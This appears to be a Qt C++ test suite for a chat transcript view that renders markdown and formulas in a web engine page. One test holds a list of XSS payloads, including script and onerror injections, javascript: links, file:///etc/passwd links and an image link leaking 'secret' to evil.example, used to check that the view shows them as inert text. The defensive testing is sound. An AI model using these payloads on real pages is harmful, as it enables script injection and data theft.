// What the page of the transcript shows, read from its document, and what it says when it is used.

#include "ui/chat_view.h"
#include "ui/colours.h"
#include "ui/main_window.h"
#include "ui/transcript.h"
#include "ui/transcript_role.h"

#include <QApplication>
#include <QClipboard>
#include <QLineEdit>
#include <QPushButton>
#include <QSignalSpy>
#include <QStandardItemModel>
#include <QTest>
#include <QWebEnginePage>
#include <QWebEngineView>

#include <csignal>
#include <memory>
#include <optional>

using ui::Author;
using ui::ChatView;
using ui::MessageState;

namespace {

constexpr int kPatience = 20'000; // milliseconds; a busy machine starts the web engine slowly

QStandardItem* message(Author author, const QString& text, qint64 id = 0)
{
    auto* item = new QStandardItem;
    item->setData(int(author), ui::AuthorRole);
    item->setData(text, ui::TextRole);
    item->setData(id, ui::IdRole);
    item->setData(int(MessageState::Answered), ui::StateRole);
    return item;
}

// A view of a model, and a look into its page.
struct Shown
{
    Shown()
    {
        view.resize(700, 500);
        view.show();
    }

    QVariant ask(const QString& script, int patience = kPatience)
    {
        if (!view.page())
            return {};
        // Shared, because the answer may come after the patience is over.
        const auto answer = std::make_shared<std::optional<QVariant>>();
        view.page()->runJavaScript(script, [answer](const QVariant& value) { *answer = value; });
        if (!QTest::qWaitFor([&] { return answer->has_value(); }, patience))
            qWarning("the page does not answer");
        return answer->value_or(QVariant());
    }
    int count(const char* selector)
    {
        return ask(QStringLiteral("document.querySelectorAll('%1').length")
                       .arg(QString::fromLatin1(selector)))
            .toInt();
    }
    QString text(const char* selector)
    {
        return ask(QStringLiteral("document.querySelector('%1')?.innerText ?? ''")
                       .arg(QString::fromLatin1(selector)))
            .toString();
    }
    // A question that a crash swallows is asked again soon.
    QString body()
    {
        return ask(QStringLiteral("document.body?.innerText ?? ''"), 2000).toString();
    }
    // A page that is loaded anew does not have the mark any more.
    void markPage() { ask(QStringLiteral("window.isSamePage = true")); }
    bool isSamePage() { return ask(QStringLiteral("window.isSamePage === true")).toBool(); }
    bool has(const char* selector)
    {
        return QTest::qWaitFor([&] { return count(selector) > 0; }, kPatience);
    }
    bool shows(const QString& words)
    {
        return QTest::qWaitFor([&] { return body().contains(words); }, kPatience);
    }
    void click(const char* selector)
    {
        ask(QStringLiteral("document.querySelector('%1').click()")
                .arg(QString::fromLatin1(selector)));
    }

    void clear()
    {
        model.clear();
        view.setThinkingShown(true);
        view.setModel(&model);
    }

    // One assistant's message, complete.
    bool answer(const QString& text)
    {
        view.setModel(&model);
        model.appendRow(message(Author::Assistant, text, 7));
        return has("article.answered .body");
    }

    QStandardItemModel model;
    ChatView view;
};

} // namespace

class tst_ChatView : public QObject
{
    Q_OBJECT

private:
    // Starting a page takes longer than most tests, which share one.
    std::unique_ptr<Shown> m_shown;
    Shown& fresh()
    {
        if (!m_shown)
            m_shown = std::make_unique<Shown>();
        m_shown->clear();
        const auto isEmpty = [&] {
            return !m_shown->view.page() || m_shown->count("article") == 0;
        };
        if (!QTest::qWaitFor(isEmpty, kPatience))
            qWarning("the page still shows the test before");
        return *m_shown;
    }

private slots:
    void cleanupTestCase() { m_shown.reset(); }

    void startsNoWebEngineBeforeTheFirstMessage()
    {
        Shown shown;
        shown.view.setModel(&shown.model);
        QVERIFY(!shown.view.page());
        QVERIFY(!shown.view.findChild<QWebEngineView*>());
        shown.model.appendRow(message(Author::User, QStringLiteral("hello")));
        QVERIFY(shown.view.page());
        QVERIFY(shown.shows(QStringLiteral("hello")));
    }

    void leavesTheFocusWhereTheUserTypes()
    {
        QWidget window;
        QLineEdit field(&window);
        ChatView view(&window);
        view.setGeometry(0, 40, 500, 400);
        QStandardItemModel model;
        view.setModel(&model);
        window.resize(500, 440);
        window.show();
        window.activateWindow();
        field.setFocus();
        QVERIFY(QTest::qWaitForWindowActive(&window));
        QVERIFY(field.hasFocus());
        view.warmUp();
        QSignalSpy loaded(view.page(), &QWebEnginePage::loadFinished);
        QVERIFY(loaded.wait(kPatience));
        model.appendRow(message(Author::User, QStringLiteral("hello")));
        QTest::keyClicks(&field, QStringLiteral("typed"));
        QCOMPARE(field.text(), QStringLiteral("typed"));
        QVERIFY(field.hasFocus());
    }

    void formatsMarkdown_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<QString>("selector");
        QTest::addColumn<QString>("content");
        const auto row = [](const char* name, const char* text, const char* selector,
                            const char* content) {
            QTest::newRow(name) << QString::fromUtf8(text) << QString::fromUtf8(selector)
                                << QString::fromUtf8(content);
        };
        row("heading", "## A *b*", ".markdown h2 em", "b");
        row("table", "|a|b|\n|-|-|\n|1|2|", ".table td:nth-child(2)", "2");
        row("strike", "~~no~~", ".markdown s", "no");
        row("task", "- [x] done", "li.task", "☑ done");
        row("link", "[a](https://example.org/x)", "a[href=\"https://example.org/x\"]", "a");
        row("bare link", "see https://example.org/y.", "a[href=\"https://example.org/y\"]",
            "https://example.org/y");
        row("reference", "[a][r]\n\n[r]: https://example.org/z", "a[href$=\"/z\"]", "a");
        row("chinese", "**“重点”**是这个 🎉", ".markdown strong", "“重点”");
        row("language", "```cpp\nint a;\n```", ".code .language", "cpp");
        row("colour", "```cpp\nint a;\n```", ".code .hljs-type", "int");
        row("unknown language", "```nosuch\na < b\n```", ".code code", "a < b\n");
        row("runnable", "```html\n<p>\n```", ".code button[data-action=run]", "Run");
        row("bare page", "Here:\n<!DOCTYPE html>\n<html>\n\n<p>x\n</html>\nThere.",
            ".code .language", "html");
        row("text after a bare page", "<html>\n<p>x\n</html>\nThere.", ".markdown > p", "There.");
        row("inline formula", "so $a^2$ is", ".markdown p .katex annotation", "a^2");
        row("displayed formula", "$$\na\n\n+b\n$$", ".katex-display annotation", "a\n\n+b");
        row("round brackets", "so \\(x_1\\) is", ".katex annotation", "x_1");
        row("square brackets", "so\n\\[x_1\\]\nis", ".katex-display annotation", "x_1");
        row("dollars", "between $5 and $10 only", ".markdown p", "between $5 and $10 only");
        row("a wrong formula", "$\\nosuch{$", ".markdown p .katex-error", "\\nosuch{");
    }

    void formatsMarkdown()
    {
        QFETCH(const QString, text);
        QFETCH(const QString, selector);
        QFETCH(const QString, content);
        Shown& shown = fresh();
        QVERIFY(shown.answer(text));
        const QString found =
            shown.ask(QStringLiteral("document.querySelector(`%1`)?.textContent").arg(selector))
                .toString();
        QVERIFY2(found == content,
                 qPrintable(found + QLatin1String(" in ")
                            + shown.ask(QStringLiteral("document.querySelector('.body').innerHTML"))
                                  .toString()));
    }

    // However the text arrives, the document is the one of the whole text.
    void growsToTheSameDocument()
    {
        const QString text = QStringLiteral(
            "# Head\n\nSome *text* with $x$ and [a link][r].\n\n- one\n- two\n\n  more\n\n"
            "```html\n<p>a &amp; b</p>\n\n<b>c</b>\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
            "> quote\nlazy\n\n1. x\n   ```js\n   let y = 1;\n   ```\n\n$$\nz\n$$\n\nend\n\n"
            "[r]: https://example.org\n");
        const auto bodyOf = QStringLiteral("document.querySelector('.body').innerHTML");
        Shown whole;
        QVERIFY(whole.answer(text));
        Shown growing;
        QStandardItem* item = message(Author::Assistant, {}, 7);
        item->setData(int(MessageState::Running), ui::StateRole);
        growing.model.appendRow(item);
        growing.view.setModel(&growing.model);
        QVERIFY(growing.has("article.running"));
        for (int length = 3; length < text.size() + 3; length += 3) {
            item->setData(text.left(length), ui::TextRole);
            if (length % 30 == 0) // now and then the page keeps up
                growing.ask(QStringLiteral("0"));
        }
        item->setData(int(MessageState::Answered), ui::StateRole);
        QVERIFY(growing.has("article.answered"));
        QCOMPARE(growing.ask(bodyOf).toString(), whole.ask(bodyOf).toString());
        QCOMPARE(growing.count("figure.code"), 2);
    }

    void leavesCompleteBlocksAloneWhileTheTextGrows()
    {
        Shown& shown = fresh();
        QStandardItem* item = message(Author::Assistant, QStringLiteral("first\n\nsecond"), 7);
        item->setData(int(MessageState::Running), ui::StateRole);
        shown.model.appendRow(item);
        shown.view.setModel(&shown.model);
        QVERIFY(shown.shows(QStringLiteral("second")));
        shown.ask(QStringLiteral("document.querySelector('.body p').dataset.same = 'yes'"));
        item->setData(QStringLiteral("first\n\nsecond\n\nthird"), ui::TextRole);
        QVERIFY(shown.shows(QStringLiteral("third")));
        QCOMPARE(shown.text(".body p[data-same=yes]"), QStringLiteral("first"));
    }

    void showsAFormulaThatIsNestedTooDeepAsItsSource()
    {
        Shown& shown = fresh();
        QVERIFY(shown.answer(QStringLiteral("x")));
        shown.markPage();
        const QString nested(3000, u'{');
        shown.model.appendRow(
            message(Author::Assistant, QStringLiteral("so $%1$ is").arg(nested), 8));
        shown.model.appendRow(message(Author::Assistant, QStringLiteral("**behind**"), 9));
        QVERIFY(shown.has("strong"));
        QVERIFY(shown.shows(QStringLiteral("so ")));
        QVERIFY(shown.text(".katex-error").startsWith(QStringLiteral("{{{")));
        QVERIFY(shown.isSamePage());
    }

    void showsAMessageThatCannotBeRenderedAsItWasWritten()
    {
        Shown shown;
        QVERIFY(shown.answer(QStringLiteral("before")));
        shown.markPage();
        shown.ask(QStringLiteral(
            "DocumentFragment.prototype.querySelectorAll = () => { throw Error('test'); }"));
        QStandardItem* item = message(Author::Assistant, QStringLiteral("**as"), 8);
        item->setData(int(MessageState::Running), ui::StateRole);
        shown.model.appendRow(item);
        QVERIFY(shown.shows(QStringLiteral("**as")));
        item->setData(QStringLiteral("**as written**"), ui::TextRole);
        QVERIFY(shown.shows(QStringLiteral("**as written**")));
        QVERIFY(shown.isSamePage());
    }

    void showsHostileTextAsText_data()
    {
        QTest::addColumn<QString>("text");
        for (const char* text :
             {"<img src=x onerror=\"document.title='owned'\">",
              "<script>document.title='owned'</script>", "<svg onload=\"document.title='owned'\">",
              "[x](javascript:document.title='owned')", "<javascript:document.title='owned'>",
              "[x](data:text/html,<script>alert(1)</script>)", "[x](file:///etc/passwd)",
              "[x](java&#115;cript:document.title='owned')", "![x](https://evil.example/?q=secret)",
              "![x](file:///etc/passwd)", "<iframe src=\"https://evil.example\"></iframe>",
              "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
              "```html\" onmouseover=\"document.title='owned'\n<p>\n```",
              "$\\href{javascript:document.title='owned'}{x}$",
              "$\\includegraphics{https://evil.example/x.png}$", "$\\htmlStyle{position:fixed}{x}$",
              "</div></article><b>out</b>", "<style>*{display:none}</style>",
              "<form action=https://evil.example><button>"})
            QTest::newRow(text) << QString::fromLatin1(text);
    }

    void showsHostileTextAsText()
    {
        QFETCH(const QString, text);
        Shown& shown = fresh();
        QVERIFY(shown.answer(text + QStringLiteral("\n\n**end**")));
        QCOMPARE(shown.text(".body strong"), QStringLiteral("end"));
        shown.ask(QStringLiteral("document.querySelectorAll('.body *').forEach(e => {"
                                 "e.dispatchEvent(new Event('mouseover')); })"));
        QCOMPARE(shown.ask(QStringLiteral("document.title")).toString(), QString());
        QCOMPARE(shown.count(".body img, .body script, .body iframe, .body style, .body meta, "
                             ".body form, .body input, .body b"),
                 0);
        // No attribute that runs, and no address but of the web.
        const QString bad = QStringLiteral(
            "[...document.querySelectorAll('.body *')].flatMap(e => [...e.attributes])"
            ".filter(a => a.name.startsWith('on') || (/^(src|href|action)$/.test(a.name)"
            " && !/^https?:/.test(a.value))).map(a => a.name + '=' + a.value).join()");
        QCOMPARE(shown.ask(bad).toString(), QString());
        QCOMPARE(shown
                     .ask(QStringLiteral("performance.getEntriesByType('resource')"
                                         ".filter(e => !e.name.startsWith('qrc:')).length"))
                     .toInt(),
                 0);
    }

    void showsAPictureByItsAddress()
    {
        Shown& shown = fresh();
        QVERIFY(shown.answer(QStringLiteral("![a cat](https://example.org/cat.png)")));
        QCOMPARE(shown.text(".picture"),
                 QStringLiteral("Picture, not loaded: a cat https://example.org/cat.png"));
    }

    void cannotReachTheNetworkOrAFile()
    {
        Shown& shown = fresh();
        QVERIFY(shown.answer(QStringLiteral("x")));
        QTest::ignoreMessage(QtWarningMsg, QRegularExpression(QStringLiteral("Content Security")));
        shown.ask(QStringLiteral("document.title = '';"
                                 "fetch('http://127.0.0.1:9/').then(() => document.title = 'in',"
                                 " () => document.title = 'refused')"));
        QTRY_COMPARE_WITH_TIMEOUT(shown.ask(QStringLiteral("document.title")).toString(),
                                  QStringLiteral("refused"), kPatience);
        QSignalSpy url(shown.view.page(), &QWebEnginePage::urlChanged);
        shown.ask(QStringLiteral("location.href = 'file:///etc/passwd'"));
        shown.ask(QStringLiteral("location.href = 'http://127.0.0.1:9/'"));
        QVERIFY(shown.shows(QStringLiteral("x")));
        QCOMPARE(shown.view.page()->url(), QUrl(QStringLiteral("qrc:/chat/chat.html")));
    }

    void foldsThinkingAwayWithItsCost()
    {
        Shown& shown = fresh();
        QStandardItem* item = message(Author::Assistant, QStringLiteral("answer"), 7);
        item->setData(QStringLiteral("hmm <b>"), ui::ThinkingRole);
        item->setData(1812, ui::ThinkingTokensRole);
        shown.model.appendRow(item);
        shown.view.setModel(&shown.model);
        QVERIFY(shown.has("details.thinking"));
        QCOMPARE(shown.text(".thinking summary"), QStringLiteral("Thinking · 1,812 tokens"));
        QVERIFY(!shown.ask(QStringLiteral("document.querySelector('details').open")).toBool());
        QVERIFY(!shown.body().contains(QStringLiteral("hmm")));
        shown.click("summary");
        QVERIFY(shown.shows(QStringLiteral("hmm <b>")));
        shown.view.setThinkingShown(false);
        QTRY_COMPARE_WITH_TIMEOUT(shown.count("details.thinking"), 0, kPatience);
        QVERIFY(shown.shows(QStringLiteral("answer")));
    }

    void offersToTryAgainAfterAFailure()
    {
        Shown& shown = fresh();
        QStandardItem* item = message(Author::Assistant, QStringLiteral("part"), 42);
        item->setData(int(MessageState::Failed), ui::StateRole);
        item->setData(true, ui::HasFailedRole);
        item->setData(QStringLiteral("no memory is left"), ui::NoteRole);
        shown.model.appendRow(item);
        shown.view.setModel(&shown.model);
        QVERIFY(shown.has(".note.error button"));
        QVERIFY(shown.text(".note.error").contains(QStringLiteral("no memory is left")));
        QSignalSpy retry(&shown.view, &ChatView::retryRequested);
        shown.click(".note.error button");
        QTRY_COMPARE_WITH_TIMEOUT(retry.size(), 1, kPatience);
        QCOMPARE(retry.first().first().toLongLong(), 42);
    }

    void editsAMessageInPlace()
    {
        Shown& shown = fresh();
        const QString whole = QString(30'000, u'x') + QStringLiteral("the end");
        shown.model.appendRow(message(Author::User, whole, 9));
        shown.view.setModel(&shown.model);
        QVERIFY(shown.has("[data-action=edit]"));
        QVERIFY(shown.shows(QStringLiteral("10,007")));
        shown.click("[data-action=edit]");
        QVERIFY(shown.has("textarea"));
        QCOMPARE(shown.ask(QStringLiteral("document.querySelector('textarea').value")).toString(),
                 whole);
        QSignalSpy edited(&shown.view, &ChatView::editRequested);
        shown.ask(QStringLiteral("document.querySelector('textarea').value = 'other'"));
        shown.click("button.primary");
        QTRY_COMPARE_WITH_TIMEOUT(edited.size(), 1, kPatience);
        QCOMPARE(edited.first()[0].toLongLong(), 9);
        QCOMPARE(edited.first()[1].toString(), QStringLiteral("other"));
        QTRY_COMPARE_WITH_TIMEOUT(shown.count("textarea"), 0, kPatience);
    }

    void keepsAnEditedTextUntilItCanBeAsked()
    {
        Shown& shown = fresh();
        shown.model.appendRow(message(Author::User, QStringLiteral("question"), 9));
        QStandardItem* failed = message(Author::Assistant, QStringLiteral("half"), 10);
        failed->setData(int(MessageState::Failed), ui::StateRole);
        failed->setData(true, ui::HasFailedRole);
        failed->setData(QStringLiteral("no memory"), ui::NoteRole);
        shown.model.appendRow(failed);
        QVERIFY(shown.has(".note.error button"));
        const auto asks = [&] { return shown.count("button[data-asks]:not(:disabled)"); };
        QCOMPARE(asks(), 2);
        shown.click("[data-action=edit]");
        QVERIFY(shown.has("textarea"));
        QCOMPARE(asks(), 3);
        shown.view.setCanAsk(false);
        QTRY_COMPARE_WITH_TIMEOUT(asks(), 0, kPatience);
        // A click that is on its way already is refused, and the text stays.
        QSignalSpy edited(&shown.view, &ChatView::editRequested);
        const auto send = [&] {
            shown.ask(QStringLiteral("{ const button = document.querySelector('button.primary');"
                                     " button.disabled = false; button.click(); }"));
        };
        send();
        QCOMPARE(shown.count("textarea"), 1);
        QVERIFY(edited.isEmpty());
        failed->setData(QStringLiteral("no memory at all"), ui::NoteRole); // is made anew
        QVERIFY(shown.shows(QStringLiteral("at all")));
        QCOMPARE(asks(), 1);
        shown.view.setCanAsk(true);
        QTRY_COMPARE_WITH_TIMEOUT(asks(), 3, kPatience);
        send();
        QTRY_COMPARE_WITH_TIMEOUT(edited.size(), 1, kPatience);
        QTRY_COMPARE_WITH_TIMEOUT(shown.count("textarea"), 0, kPatience);
    }

    // The window's key for Stop must not take it.
    void escapeEndsAnEditInThePageAndDoesNotStopTheAnswer()
    {
        ui::MainWindow window;
        QStandardItemModel model;
        model.appendRow(message(Author::User, QStringLiteral("question"), 9));
        window.setTranscript(&model);
        ui::Status status;
        status.activity = ui::Status::Activity::Writing;
        window.setStatus(status);
        window.show();
        window.activateWindow();
        QVERIFY(QTest::qWaitForWindowActive(&window));
        auto* view = window.findChild<QWebEngineView*>();
        const auto run = [&](const char* script) {
            const auto answer = std::make_shared<std::optional<QVariant>>();
            view->page()->runJavaScript(QString::fromLatin1(script),
                                        [answer](const QVariant& value) { *answer = value; });
            return QTest::qWaitFor([&] { return answer->has_value(); }, kPatience)
                       ? answer->value().toInt()
                       : -1;
        };
        window.page()->transcript()->setFocus(); // as the key for the next area does
        QVERIFY(view->focusProxy()->hasFocus());
        const char* open = "document.querySelector('[data-action=edit]')?.click()";
        const char* count = "document.querySelectorAll('textarea').length";
        QTRY_COMPARE_WITH_TIMEOUT((run(open), run(count)), 1, kPatience);
        QWidget* page = view->focusProxy();
        QTRY_VERIFY_WITH_TIMEOUT(page->inputMethodQuery(Qt::ImEnabled).toBool(), kPatience);
        QSignalSpy stopped(&window, &ui::MainWindow::stopRequested);
        QTest::keyClick(page, Qt::Key_Escape);
        QTRY_COMPARE_WITH_TIMEOUT(run(count), 0, kPatience);
        QVERIFY(stopped.isEmpty());
        QTRY_VERIFY_WITH_TIMEOUT(!page->inputMethodQuery(Qt::ImEnabled).toBool(), kPatience);
        QTest::keyClick(page, Qt::Key_Escape);
        QTRY_COMPARE(stopped.size(), 1);
    }

    void goesFromBranchToBranch()
    {
        Shown& shown = fresh();
        QStandardItem* item = message(Author::User, QStringLiteral("question"), 5);
        item->setData(2, ui::BranchRole);
        item->setData(3, ui::BranchCountRole);
        shown.model.appendRow(item);
        shown.model.appendRow(message(Author::Assistant, QStringLiteral("answer"), 6));
        shown.view.setModel(&shown.model);
        QVERIFY(shown.has("[data-action=next-branch]"));
        QCOMPARE(shown.text(".branch"), QStringLiteral("2/3"));
        QCOMPARE(shown.count(".branch"), 1);
        QSignalSpy branch(&shown.view, &ChatView::branchRequested);
        shown.click("[data-action=next-branch]");
        QTRY_COMPARE_WITH_TIMEOUT(branch.size(), 1, kPatience);
        shown.click("[data-action=previous-branch]");
        QTRY_COMPARE_WITH_TIMEOUT(branch.size(), 2, kPatience);
        QCOMPARE(branch[0], (QList<QVariant>{qint64(5), 1}));
        QCOMPARE(branch[1], (QList<QVariant>{qint64(5), -1}));
        item->setData(3, ui::BranchRole);
        QVERIFY(shown.has("[data-action=next-branch]:disabled"));
    }

    void runsTheBlockThatIsMeant()
    {
        Shown& shown = fresh();
        QVERIFY(shown.answer(QStringLiteral("```js\n1\n```\nand\n\n```html\n<p>\n```\n")));
        QSignalSpy run(&shown.view, &ChatView::runRequested);
        QCOMPARE(shown.count("[data-action=run]"), 1);
        shown.click("[data-action=run]");
        QTRY_COMPARE_WITH_TIMEOUT(run.size(), 1, kPatience);
        QCOMPARE(run.first(), (QList<QVariant>{qint64(7), 1}));
    }

    void copiesMessagesAndCodeAsTheyWereWritten()
    {
        Shown& shown = fresh();
        const QString code = QStringLiteral("int a = 1 < 2;\n");
        const QString text = QStringLiteral("**so**\n\n```cpp\n") + code + QStringLiteral("```");
        QVERIFY(shown.answer(text));
        QSignalSpy copied(&shown.view, &ChatView::copied);
        shown.click("[data-action=copy-code]");
        QTRY_COMPARE_WITH_TIMEOUT(copied.size(), 1, kPatience);
        QCOMPARE(QApplication::clipboard()->text(), code);
        shown.click("[data-action=copy]");
        QTRY_COMPARE_WITH_TIMEOUT(copied.size(), 2, kPatience);
        QCOMPARE(QApplication::clipboard()->text(), text);
    }

    void copiesASelectionAcrossMessagesWithFormulasAsLatex()
    {
        Shown& shown = fresh();
        shown.model.appendRow(message(Author::User, QStringLiteral("question"), 1));
        shown.model.appendRow(message(Author::Assistant, QStringLiteral("so $a^2$ is"), 2));
        shown.view.setModel(&shown.model);
        QVERIFY(shown.has(".katex"));
        QSignalSpy copied(&shown.view, &ChatView::copied);
        shown.ask(QStringLiteral("getSelection().setBaseAndExtent("
                                 "document.querySelector('.user .body').firstChild, 3,"
                                 "document.querySelector('.assistant .body p').lastChild, 3)"));
        shown.view.page()->triggerAction(QWebEnginePage::Copy);
        QTRY_COMPARE_WITH_TIMEOUT(copied.size(), 1, kPatience);
        const QString text = QApplication::clipboard()->text();
        QVERIFY2(text.startsWith(QStringLiteral("stion")), qPrintable(text));
        QVERIFY2(text.endsWith(QStringLiteral("so $a^2$ is")), qPrintable(text));
        QVERIFY2(!text.contains(QStringLiteral("Copy")), qPrintable(text));
    }

    void tellsWhichLinkWasFollowed()
    {
        Shown& shown = fresh();
        QVERIFY(shown.answer(QStringLiteral("[a](https://example.org/x)")));
        QSignalSpy link(&shown.view, &ChatView::linkActivated);
        shown.ask(QStringLiteral("document.querySelector('.body a')"
                                 ".dispatchEvent(new Event('mouseover', {bubbles: true}))"));
        QCOMPARE(shown.text("#target"), QStringLiteral("https://example.org/x"));
        shown.click(".body a");
        QTRY_COMPARE_WITH_TIMEOUT(link.size(), 1, kPatience);
        QCOMPARE(link.first().first().toUrl(), QUrl(QStringLiteral("https://example.org/x")));
    }

    void followsRemovedChangedAndInsertedRows()
    {
        Shown& shown = fresh();
        for (const char* text : {"one", "two", "three", "four"})
            shown.model.appendRow(message(Author::User, QString::fromLatin1(text)));
        shown.view.setModel(&shown.model);
        QVERIFY(shown.shows(QStringLiteral("four")));
        shown.model.removeRows(2, 2);
        shown.model.insertRow(1, message(Author::Assistant, QStringLiteral("between")));
        shown.model.item(0)->setData(QStringLiteral("ONE"), ui::TextRole);
        const QString texts =
            QStringLiteral("[...document.querySelectorAll('.body')].map(e => e.innerText).join()");
        QTRY_COMPARE_WITH_TIMEOUT(shown.ask(texts).toString(), QStringLiteral("ONE,between,two"),
                                  kPatience);
        shown.model.clear();
        QTRY_COMPARE_WITH_TIMEOUT(shown.count("article"), 0, kPatience);
    }

    void holdsAFewOfManyMessagesAndShowsAnyOfThem()
    {
        Shown& shown = fresh();
        for (int i = 0; i < 10'000; ++i)
            shown.model.appendRow(message(i % 2 == 0 ? Author::User : Author::Assistant,
                                          QStringLiteral("number %1 **bold**").arg(i), i));
        shown.view.setModel(&shown.model);
        QVERIFY(shown.shows(QStringLiteral("number 9999")));
        QVERIFY(shown.count("article") < 100);
        QTRY_COMPARE_WITH_TIMEOUT(shown.count("article.waiting"), 0, kPatience);
        shown.ask(QStringLiteral("document.scrollingElement.scrollTop = 0"));
        QVERIFY(shown.shows(QStringLiteral("number 0")));
        QVERIFY(shown.count("article") < 100);
        QVERIFY(!shown.body().contains(QStringLiteral("number 9999")));
        shown.ask(QStringLiteral("scrollTo(0, document.body.scrollHeight / 2)"));
        QTRY_VERIFY_WITH_TIMEOUT(shown.count("article.answered .body") > 5
                                     && shown.count("article.waiting") == 0,
                                 kPatience);
    }

    void staysAtTheEndUnlessTheReaderScrolledUp()
    {
        Shown& shown = fresh();
        QStandardItem* item = message(Author::Assistant, QStringLiteral("x"), 7);
        item->setData(int(MessageState::Running), ui::StateRole);
        shown.model.appendRow(item);
        shown.view.setModel(&shown.model);
        QString text;
        for (int i = 0; i < 100; ++i)
            text += QStringLiteral("line %1\n\n").arg(i);
        item->setData(text, ui::TextRole);
        QVERIFY(shown.shows(QStringLiteral("line 99")));
        const QString room =
            QStringLiteral("document.scrollingElement.scrollHeight - innerHeight - scrollY");
        QTRY_VERIFY_WITH_TIMEOUT(shown.ask(room).toInt() <= 1, kPatience);
        shown.ask(QStringLiteral("scrollTo(0, 300)"));
        QTRY_VERIFY_WITH_TIMEOUT(
            !shown.ask(QStringLiteral("document.getElementById('to-end').hidden")).toBool(),
            kPatience);
        item->setData(text + QStringLiteral("one more"), ui::TextRole);
        QVERIFY(shown.shows(QStringLiteral("one more")));
        QCOMPARE(shown.ask(QStringLiteral("scrollY")).toInt(), 300);
        shown.click("#to-end");
        QTRY_VERIFY_WITH_TIMEOUT(shown.ask(room).toInt() <= 1, kPatience);
    }

    void comesBackToWhereItWasScrolled()
    {
        Shown& shown = fresh();
        for (int i = 0; i < 300; ++i)
            shown.model.appendRow(
                message(Author::User, QStringLiteral("%1\nline\nline\nline").arg(i), i));
        QVERIFY(shown.shows(QStringLiteral("299")));
        QCOMPARE(shown.view.scroll(), QString());
        shown.view.setScroll(QStringLiteral("100:20"));
        const QString top = QStringLiteral(
            "document.elementFromPoint(350, 5)?.closest('article')?.dataset.id ?? ''");
        QTRY_COMPARE_WITH_TIMEOUT(shown.ask(top).toString(), QStringLiteral("100"), kPatience);
        QTRY_COMPARE_WITH_TIMEOUT(shown.view.scroll(), QStringLiteral("100:20"), kPatience);
        shown.view.setScroll({});
        QVERIFY(shown.shows(QStringLiteral("299")));
        QTRY_COMPARE_WITH_TIMEOUT(shown.view.scroll(), QString(), kPatience);
    }

    void findsInMessagesThatAreNotInThePage()
    {
        Shown& shown = fresh();
        for (int i = 0; i < 500; ++i)
            shown.model.appendRow(message(Author::Assistant,
                                          i == 20 || i == 490
                                              ? QStringLiteral("a Needle and a needle")
                                              : QStringLiteral("hay %1").arg(i),
                                          i));
        shown.view.setModel(&shown.model);
        QVERIFY(shown.shows(QStringLiteral("hay 499")));
        shown.view.find();
        auto* field = shown.view.findChild<QLineEdit*>();
        QVERIFY(field->isVisible());
        QTest::keyClicks(field, QStringLiteral("needle"));
        QVERIFY(shown.has("mark.current"));
        const QString where = QStringLiteral(
            "document.querySelector('mark.current')?.closest('article').dataset.id + ':' +"
            "[...document.querySelectorAll('mark.current')[0].closest('article')"
            ".querySelectorAll('mark')].findIndex(m => m.matches('.current'))");
        for (const char* place : {"20:0", "20:1", "490:0", "490:1", "20:0"}) {
            QTRY_COMPARE_WITH_TIMEOUT(shown.ask(where).toString(), QString::fromLatin1(place),
                                      kPatience);
            QTest::keyClick(field, Qt::Key_Return);
        }
        QTest::keyClick(field, Qt::Key_Escape);
        QTRY_COMPARE_WITH_TIMEOUT(shown.count("mark"), 0, kPatience);
        QVERIFY(!field->isVisible());
    }

    void searchesAnewInAnotherConversation()
    {
        Shown& shown = fresh();
        for (int i = 0; i < 50; ++i)
            shown.model.appendRow(
                message(Author::Assistant, QStringLiteral("needle %1").arg(i), i));
        QVERIFY(shown.shows(QStringLiteral("needle 49")));
        shown.markPage();
        shown.view.find();
        auto* field = shown.view.findChild<QLineEdit*>();
        QTest::keyClicks(field, QStringLiteral("needle"));
        QVERIFY(shown.has("mark.current"));
        shown.model.clear();
        shown.model.appendRow(message(Author::User, QStringLiteral("hay"), 60));
        shown.model.appendRow(message(Author::Assistant, QStringLiteral("a needle"), 61));
        QTest::keyClick(field, Qt::Key_Return);
        QVERIFY(shown.shows(QStringLiteral("hay")));
        QVERIFY(shown.has("article[data-id=\"61\"] mark.current"));
        QTest::keyClick(field, Qt::Key_Escape);
        QVERIFY(shown.isSamePage());
    }

    void followsThePalette()
    {
        Shown& shown = fresh();
        ui::apply(ui::Appearance::Light);
        QVERIFY(shown.answer(QStringLiteral("x")));
        const QString background =
            QStringLiteral("getComputedStyle(document.body).backgroundColor");
        QTRY_COMPARE_WITH_TIMEOUT(shown.ask(background).toString(),
                                  QStringLiteral("rgb(255, 255, 255)"), kPatience);
        ui::apply(ui::Appearance::Dark);
        QTRY_COMPARE_WITH_TIMEOUT(shown.ask(background).toString(),
                                  QStringLiteral("rgb(27, 29, 31)"), kPatience);
        ui::apply(ui::Appearance::Desktop);
    }

    void announcesAnAnswerThatIsComplete()
    {
        Shown& shown = fresh();
        QStandardItem* item = message(Author::Assistant, QStringLiteral("the **answer**"), 7);
        item->setData(int(MessageState::Running), ui::StateRole);
        shown.model.appendRow(item);
        shown.view.setModel(&shown.model);
        QVERIFY(shown.has("article.running strong"));
        const QString said = QStringLiteral("document.getElementById('announcer').textContent");
        QCOMPARE(shown.ask(said).toString(), QString());
        item->setData(int(MessageState::Answered), ui::StateRole);
        QTRY_COMPARE_WITH_TIMEOUT(shown.ask(said).toString(), QStringLiteral("the answer"),
                                  kPatience);
        QCOMPARE(shown.count("button:not([aria-label])"), 0);
    }

    void survivesACrashOfThePage()
    {
        Shown shown;
        QVERIFY(shown.answer(QStringLiteral("still here")));
        QSignalSpy crash(shown.view.page(), &QWebEnginePage::renderProcessTerminated);
        for (int i = 0; i < 4; ++i) {
            QVERIFY(shown.shows(QStringLiteral("still here")));
            ::kill(pid_t(shown.view.page()->renderProcessPid()), SIGKILL);
            QTRY_COMPARE_WITH_TIMEOUT(crash.size(), i + 1, kPatience);
        }
        auto* again = shown.view.findChild<QPushButton*>();
        QTRY_VERIFY(again->isVisible());
        QTest::mouseClick(again, Qt::LeftButton);
        QVERIFY(shown.shows(QStringLiteral("still here")));
    }
};

int main(int argc, char** argv)
{
    QLocale::setDefault(QLocale(QLocale::English, QLocale::UnitedStates));
    QApplication application(argc, argv);
    tst_ChatView test;
    return QTest::qExec(&test, argc, argv);
}
#include "tst_chat_view.moc"
